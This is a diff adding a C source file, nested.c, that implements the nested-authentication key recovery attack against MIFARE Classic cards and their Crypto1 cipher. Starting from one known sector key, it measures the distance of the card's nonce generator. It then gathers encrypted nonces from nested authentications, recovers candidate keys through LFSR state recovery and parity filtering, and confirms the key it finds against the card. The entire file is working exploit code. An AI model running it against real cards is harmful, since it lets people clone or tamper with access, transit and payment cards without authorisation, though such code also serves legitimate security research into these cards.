@@ -0,0 +1,240 @@
+/*  nested.c
+
+    This program is free software; you can redistribute it and/or
+    modify it under the terms of the GNU General Public License
+    as published by the Free Software Foundation; either version 2
+    of the License, or (at your option) any later version.
+
+    This program is distributed in the hope that it will be useful,
+    but WITHOUT ANY WARRANTY; without even the implied warranty of
+    MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+    GNU General Public License for more details.
+
+    You should have received a copy of the GNU General Public License
+    along with this program; if not, write to the Free Software
+    Foundation, Inc., 51 Franklin Street, Fifth Floor, Boston,
+    MA  02110-1301, US
+*/
+#include "nested.h"
+#include <stdlib.h>
+
+/* candidate keys of the first sample, sorted once it is complete, and the
+ * states of one recovery waiting to be rolled back to keys in a batch
+ */
+struct keylist {
+	uint64_t *key;
+	uint32_t *odd, *even;
+	size_t len, size;
+	uint32_t in;
+	int par3;
+};
+
+/** nested_auth
+ * a full plain authentication with a known key, leaves the card
+ * authenticated and returns the nt it used
+ */
+int nested_auth(struct nested_card *c, uint8_t block, int keyb, uint64_t key,
+		uint32_t *nt)
+{
+	struct Crypto1State *s;
+	uint32_t nr = 0x9f7c3a51, nr_enc, ar_enc, at_enc;
+	uint8_t par[4];
+	int ret = -1;
+
+	c->halt(c->ctx);
+	if(c->auth(c->ctx, block, keyb, nt, par) || !(s = crypto1_create(key)))
+		return -1;
+
+	crypto1_word(s, c->uid ^ *nt, 0);
+	nr_enc = nr ^ crypto1_word(s, nr, 0);
+	ar_enc = prng_successor(*nt, 64) ^ crypto1_word(s, 0, 0);
+	if(!c->answer(c->ctx, nr_enc, ar_enc, &at_enc) &&
+	   (at_enc ^ crypto1_word(s, 0, 0)) == prng_successor(*nt, 96))
+		ret = 0;
+
+	crypto1_destroy(s);
+	return ret;
+}
+/** nested_calibrate
+ * measure how far the card's nonce generator runs between a plain and a
+ * nested authentication, both to the sector of the known key
+ */
+int nested_calibrate(struct nested_card *c, uint8_t block, int keyb,
+		     uint64_t key, int rounds, struct nested_dist *dist)
+{
+	struct Crypto1State *s;
+	uint32_t nt0, nt;
+	uint8_t par[4];
+	int d;
+
+	dist->min = 65535;
+	dist->max = 0;
+	while(rounds--) {
+		if(nested_auth(c, block, keyb, key, &nt0) ||
+		   c->auth(c->ctx, block, keyb, &nt, par))
+			return -1;
+		c->halt(c->ctx);
+
+		if(!(s = crypto1_create(key)))
+			return -1;
+		nt ^= crypto1_word(s, nt ^ c->uid, 1);
+		crypto1_destroy(s);
+
+		d = nonce_distance(nt0, nt);
+		dist->min = d < dist->min ? d : dist->min;
+		dist->max = d > dist->max ? d : dist->max;
+	}
+	return 0;
+}
+
+/** sample_match
+ * whether key explains a nested nt_enc taken dist after nt0: decrypting it
+ * must give a valid nonce at that distance and agree with all 4 parities
+ */
+static int sample_match(uint64_t key, uint32_t uid, uint32_t nt0,
+			uint32_t nt_enc, const uint8_t par[4],
+			const struct nested_dist *dist)
+{
+	struct Crypto1State *s = crypto1_create(key);
+	uint32_t ks, nt;
+	int d, i, good;
+
+	if(!s)
+		return 0;
+	ks = crypto1_word(s, nt_enc ^ uid, 1);
+	nt = nt_enc ^ ks;
+	d = nonce_distance(nt0, nt);
+	good = d >= dist->min && d <= dist->max && prng_jump(nt0, d) == nt;
+	for(i = 0; good && i < 3; ++i)
+		good = (par[i] ^ !parity(nt >> (24 - 8 * i) & 0xff)) ==
+			BEBIT(ks, 8 * i + 8);
+	good = good && (par[3] ^ !parity(nt & 0xff)) == filter(s->odd);
+	crypto1_destroy(s);
+	return good;
+}
+/** collect
+ * lfsr_recovery32 callback keeping the states that also produce the
+ * keystream bit hidden in the 4th parity bit
+ */
+static int collect(struct Crypto1State *s, void *arg)
+{
+	struct keylist *kl = arg;
+	size_t size = kl->size ? kl->size << 1 : 1 << 16;
+	uint64_t *key;
+	uint32_t *odd, *even;
+
+	if(filter(s->odd) != kl->par3)
+		return 0;
+	if(kl->len == kl->size) {
+		if((key = realloc(kl->key, sizeof(*key) * size)))
+			kl->key = key;
+		if((odd = realloc(kl->odd, sizeof(*odd) * size)))
+			kl->odd = odd;
+		if((even = realloc(kl->even, sizeof(*even) * size)))
+			kl->even = even;
+		if(!key || !odd || !even)
+			return -1;
+		kl->size = size;
+	}
+	kl->odd[kl->len] = s->odd;
+	kl->even[kl->len++] = s->even;
+	return 0;
+}
+static int key_cmp(const void *a, const void *b)
+{
+	uint64_t x = *(const uint64_t*)a, y = *(const uint64_t*)b;
+
+	return x < y ? -1 : x > y;
+}
+/** first_sample
+ * all keys decrypting nt_enc to a nonce within the distance window, only
+ * the nonces agreeing with the first 3 parity bits are recovered from
+ */
+static int first_sample(struct crapto1_ws *ws, struct keylist *kl, uint32_t uid,
+			uint32_t nt0, uint32_t nt_enc, const uint8_t par[4],
+			const struct nested_dist *dist)
+{
+	uint32_t nt, ks;
+	size_t i, j, first;
+	int d, k, good;
+
+	kl->len = 0;
+	for(d = dist->min; d <= dist->max; ++d) {
+		nt = prng_jump(nt0, d);
+		ks = nt ^ nt_enc;
+		for(k = 0, good = 1; good && k < 3; ++k)
+			good = (par[k] ^ !parity(nt >> (24 - 8 * k) & 0xff)) ==
+				BEBIT(ks, 8 * k + 8);
+		if(!good)
+			continue;
+		kl->in = uid ^ nt;
+		kl->par3 = par[3] ^ !parity(nt & 0xff);
+		first = kl->len;
+		if(lfsr_recovery32_cb_ws(ws, ks, kl->in, collect, kl))
+			return -1;
+		lfsr_rollback_word_batch(kl->odd + first, kl->even + first,
+					 kl->len - first, kl->in, 0);
+		crypto1_get_lfsr_batch(kl->odd + first, kl->even + first,
+				       kl->len - first, kl->key + first);
+	}
+
+	qsort(kl->key, kl->len, sizeof(*kl->key), key_cmp);
+	for(i = j = 0; i < kl->len; ++i)
+		if(!j || kl->key[i] != kl->key[j - 1])
+			kl->key[j++] = kl->key[i];
+	kl->len = j;
+	return 0;
+}
+/** nested_recover
+ * Recover the key of tblock from nested authentications started under the
+ * known key of block.  The candidates of the first sample are narrowed
+ * by each further one until a single key is left, it is confirmed with a
+ * plain authentication.  A sample outside the calibrated distances leaves
+ * nothing, then the search starts over.
+ * Returns 0 when the key was found within samples samples.
+ */
+int nested_recover(struct nested_card *c, uint8_t block, int keyb, uint64_t key,
+		   const struct nested_dist *dist, uint8_t tblock, int tkeyb,
+		   int samples, uint64_t *found)
+{
+	struct crapto1_ws *ws = crapto1_ws_create(CRAPTO1_WS_HUGEPAGES);
+	struct keylist kl = {0};
+	uint32_t nt0, nt_enc, tnt;
+	uint8_t par[4];
+	size_t i, j;
+	int ret = -1, fresh = 1;
+
+	if(!ws)
+		return -1;
+	while(samples--) {
+		if(nested_auth(c, block, keyb, key, &nt0) ||
+		   c->auth(c->ctx, tblock, tkeyb, &nt_enc, par))
+			goto out;
+		c->halt(c->ctx);
+
+		if(fresh) {
+			if(first_sample(ws, &kl, c->uid, nt0, nt_enc, par, dist))
+				goto out;
+		} else {
+			for(i = j = 0; i < kl.len; ++i)
+				if(sample_match(kl.key[i], c->uid, nt0, nt_enc,
+						par, dist))
+					kl.key[j++] = kl.key[i];
+			kl.len = j;
+		}
+		fresh = !kl.len;
+
+		if(kl.len == 1 && !nested_auth(c, tblock, tkeyb, kl.key[0], &tnt)) {
+			*found = kl.key[0];
+			ret = 0;
+			break;
+		}
+	}
+out:
+	c->halt(c->ctx);
+	free(kl.key);
+	free(kl.odd);
+	free(kl.even);
+	crapto1_ws_destroy(ws);
+	return ret;
+}